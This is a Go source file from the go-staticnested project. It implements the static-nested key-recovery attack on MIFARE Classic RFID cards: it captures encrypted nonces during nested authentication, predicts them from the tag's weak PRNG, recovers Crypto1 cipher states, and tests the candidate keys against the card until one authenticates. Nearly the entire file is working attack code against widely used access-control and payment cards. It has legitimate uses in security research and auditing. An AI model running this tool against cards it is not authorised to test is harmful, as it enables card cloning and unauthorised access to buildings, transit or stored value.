// go-staticnested
// Copyright (c) 2026 RedbeanW and contributors.
// SPDX-License-Identifier: GPL-3.0-or-later
//
// This file is part of go-staticnested.

package staticnested

import (
	"fmt"
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// Result is the outcome of one static-nested run against a single target
// key.
type Result struct {
	Key     uint64
	Elapsed time.Duration
	Tested  int
	Success bool
}

// fixedPointNonce marks a known tag class whose Key B nonce distances are
// constant; for them the calibrated distances are replaced by these fixed
// ones.
// See proxmark3 armsrc/mifarecmd.c (static nested fixed-point handling).
const (
	fixedPointNonce = 0x009080A2
	fixedPointDist1 = 161
	fixedPointDist2 = 321
)

const reporterInterval = 50 * time.Millisecond

// Execute runs the static-nested attack: capture two encrypted nonces for
// the target under nested authentication with the known key, back-solve
// both captures with Recovery32 in parallel, intersect the rolled-back
// state sets, and verify the surviving candidates online until one
// authenticates.
func Execute(
	in *Initiator, card *Card,
	block uint8, keyType KeyType, key uint64,
	targetBlock uint8, targetKeyType KeyType,
	forceDetectDistance bool,
) (*Result, error) {
	selected, err := in.SelectCard(card.UID)
	if err != nil {
		return nil, err
	}
	if selected == nil {
		return nil, ErrTagMovedOut
	}

	pair, err := collectData(in, card, block, keyType, key, targetBlock, targetKeyType, forceDetectDistance)
	if err != nil {
		return nil, err
	}
	for i, ntEnc := range pair {
		fmt.Printf("NtEnc_%d = %08X KeyStream_%d = %08X\n", i, ntEnc.Nonce, i, ntEnc.Keystream)
	}

	var statesA, statesB []Cipher
	var wg sync.WaitGroup
	wg.Add(2)
	go func() {
		defer wg.Done()
		statesA = recoverSorted(pair[0], card.NUID)
	}()
	go func() {
		defer wg.Done()
		statesB = recoverSorted(pair[1], card.NUID)
	}()
	wg.Wait()

	statesA, statesB = rollbackPairedStates(statesA, statesB, pair[0], pair[1], card.NUID)
	candidates := findIntersection(statesA, statesB)
	fmt.Printf("Found %d candidate keys.\n", len(candidates))

	return verifyCandidates(in, card, targetBlock, targetKeyType, candidates)
}

// collectData captures the two encrypted-nonce/keystream pairs. The tag's
// deterministic PRNG means the nonce under each aborted nested
// authentication is a fixed distance from the calibration nonce.
func collectData(
	in *Initiator, card *Card,
	block uint8, keyType KeyType, key uint64,
	targetBlock uint8, targetKeyType KeyType,
	forceDetectDistance bool,
) ([2]EncryptedNonce, error) {
	var pair [2]EncryptedNonce
	var cipher Cipher

	authCapture := func(nested bool) (uint32, error) {
		_, nt, err := in.AuthCapture(&cipher, keyType, card, block, key, nested)
		if err != nil {
			return 0, fatalTagMoved(err)
		}
		return nt, nil
	}
	reselect := func() error {
		selected, err := in.SelectCard(card.UID)
		if err != nil {
			return err
		}
		if selected == nil {
			return ErrTagMovedOut
		}
		return nil
	}

	nt1, err := authCapture(false)
	if err != nil {
		return pair, err
	}
	nt2, err := authCapture(true)
	if err != nil {
		return pair, err
	}
	nt3, err := authCapture(true)
	if err != nil {
		return pair, err
	}

	dist1, err := NonceDistance(nt1, nt2)
	if err != nil {
		return pair, err
	}
	dist2, err := NonceDistance(nt1, nt3)
	if err != nil {
		return pair, err
	}

	if err := reselect(); err != nil {
		return pair, err
	}
	nt1, err = authCapture(false)
	if err != nil {
		return pair, err
	}

	if targetKeyType == KeyB && nt1 == fixedPointNonce && !forceDetectDistance {
		pair[0].Nonce = PrngSuccessor(nt1, fixedPointDist1)
		pair[1].Nonce = PrngSuccessor(nt1, fixedPointDist2)
	} else {
		pair[0].Nonce = PrngSuccessor(nt1, dist1)
		pair[1].Nonce = PrngSuccessor(nt1, dist2)
	}

	ntEnc, err := in.EncryptedNonce(&cipher, targetKeyType, targetBlock)
	if err != nil {
		return pair, err
	}
	pair[0].Keystream = ntEnc ^ pair[0].Nonce

	if err := reselect(); err != nil {
		return pair, err
	}
	if _, err := authCapture(false); err != nil {
		return pair, err
	}
	if _, err := authCapture(true); err != nil {
		return pair, err
	}

	ntEnc, err = in.EncryptedNonce(&cipher, targetKeyType, targetBlock)
	if err != nil {
		return pair, err
	}
	pair[1].Keystream = ntEnc ^ pair[1].Nonce

	return pair, nil
}

// filterProjection is the 16-bit slice of a state visible to the paired
// walk: the middle byte of each half register.
func filterProjection(s Cipher) uint64 {
	return uint64(s.Even&0x00FF0000)<<32 | uint64(s.Odd&0x00FF0000)
}

// stateValue orders states by (even, odd).
func stateValue(s Cipher) uint64 {
	return uint64(s.Even)<<32 | uint64(s.Odd)
}

// recoverSorted back-solves one capture and sorts the states descending by
// their filter projection.
func recoverSorted(ntEnc EncryptedNonce, nuid uint32) []Cipher {
	states := Recovery32(ntEnc.Keystream, ntEnc.Nonce^nuid)
	sort.Slice(states, func(i, j int) bool {
		return filterProjection(states[i]) > filterProjection(states[j])
	})
	return states
}

// rollbackPairedStates walks both projection-sorted state sets in lock
// step. The captures share the secret key but differ in IVs, so only
// states whose projections appear in both sets can survive; each survivor
// is rolled back by its own capture's IV.
func rollbackPairedStates(
	statesA, statesB []Cipher,
	ntEncA, ntEncB EncryptedNonce,
	nuid uint32,
) (outA, outB []Cipher) {
	readA, readB := 0, 0
	keepA, keepB := 0, 0

	for readA < len(statesA) && readB < len(statesB) {
		if filterProjection(statesA[readA]) == filterProjection(statesB[readB]) {
			cluster := filterProjection(statesA[readA])
			for readA < len(statesA) && filterProjection(statesA[readA]) == cluster {
				statesA[keepA] = statesA[readA]
				statesA[keepA].RollbackWord(ntEncA.Nonce^nuid, false)
				keepA++
				readA++
			}
			cluster = filterProjection(statesB[readB])
			for readB < len(statesB) && filterProjection(statesB[readB]) == cluster {
				statesB[keepB] = statesB[readB]
				statesB[keepB].RollbackWord(ntEncB.Nonce^nuid, false)
				keepB++
				readB++
			}
			continue
		}
		for readA < len(statesA) && filterProjection(statesA[readA]) > filterProjection(statesB[readB]) {
			readA++
		}
		for readA < len(statesA) && readB < len(statesB) &&
			filterProjection(statesB[readB]) > filterProjection(statesA[readA]) {
			readB++
		}
	}

	return statesA[:keepA], statesB[:keepB]
}

// findIntersection returns the states present in both rolled-back sets,
// ordered ascending by (even, odd).
func findIntersection(statesA, statesB []Cipher) []Cipher {
	sort.Slice(statesA, func(i, j int) bool { return stateValue(statesA[i]) < stateValue(statesA[j]) })
	sort.Slice(statesB, func(i, j int) bool { return stateValue(statesB[i]) < stateValue(statesB[j]) })

	var out []Cipher
	i, j := 0, 0
	for i < len(statesA) && j < len(statesB) {
		switch {
		case stateValue(statesA[i]) < stateValue(statesB[j]):
			i++
		case stateValue(statesA[i]) > stateValue(statesB[j]):
			j++
		default:
			out = append(out, statesA[i])
			i++
			j++
		}
	}
	return out
}

// verifyCandidates tests candidate keys online until one authenticates.
// One worker goroutine drives the initiator; a reporter goroutine prints
// progress from a shared atomic counter until stopped.
func verifyCandidates(
	in *Initiator, card *Card,
	targetBlock uint8, targetKeyType KeyType,
	candidates []Cipher,
) (*Result, error) {
	var progress atomic.Int64

	stopReporter := make(chan struct{})
	var reporterWg sync.WaitGroup
	reporterWg.Add(1)
	go func() {
		defer reporterWg.Done()
		reportProgress(stopReporter, &progress, len(candidates))
	}()

	start := time.Now()

	type workerResult struct {
		key *uint64
		err error
	}
	done := make(chan workerResult, 1)
	go func() {
		var cipher Cipher
		for _, candidate := range candidates {
			key := candidate.LFSR()
			ok, err := in.TestKey(&cipher, targetKeyType, card, targetBlock, key)
			if err != nil {
				done <- workerResult{err: err}
				return
			}
			progress.Add(1)
			if ok {
				done <- workerResult{key: &key}
				return
			}
		}
		done <- workerResult{}
	}()

	worker := <-done
	close(stopReporter)
	reporterWg.Wait()

	if worker.err != nil {
		return nil, worker.err
	}
	found := worker.key

	result := &Result{
		Elapsed: time.Since(start),
		Tested:  int(progress.Load()),
		Success: found != nil,
	}
	if found != nil {
		result.Key = *found
	}
	return result, nil
}

// reportProgress refreshes a single status line with the test rate and a
// worst-case completion estimate.
func reportProgress(stop <-chan struct{}, progress *atomic.Int64, total int) {
	start := time.Now()
	ticker := time.NewTicker(reporterInterval)
	defer ticker.Stop()

	for {
		select {
		case <-stop:
			return
		case <-ticker.C:
			tested := progress.Load()
			elapsed := time.Since(start).Seconds()
			if elapsed <= 0 {
				continue
			}
			rate := float64(tested) / elapsed
			eta := "unknown"
			if rate > 0 {
				eta = formatDuration(time.Duration(float64(total-int(tested)) / rate * float64(time.Second)))
			}
			fmt.Printf("\r\033[2KTesting keys... (%d/%d) %.2f keys/s, estimated time: %s. (worst-case scenario)",
				tested, total, rate, eta)
		}
	}
}

// formatDuration renders a duration as the progress line expects.
func formatDuration(d time.Duration) string {
	if d < 0 {
		d = -d
	}
	d = d.Round(time.Second)
	h := d / time.Hour
	m := (d % time.Hour) / time.Minute
	s := (d % time.Minute) / time.Second

	out := ""
	if h > 0 {
		out += fmt.Sprintf("%d hr, ", h)
	}
	if m > 0 || out != "" {
		out += fmt.Sprintf("%d min, ", m)
	}
	return out + fmt.Sprintf("%d sec", s)
}
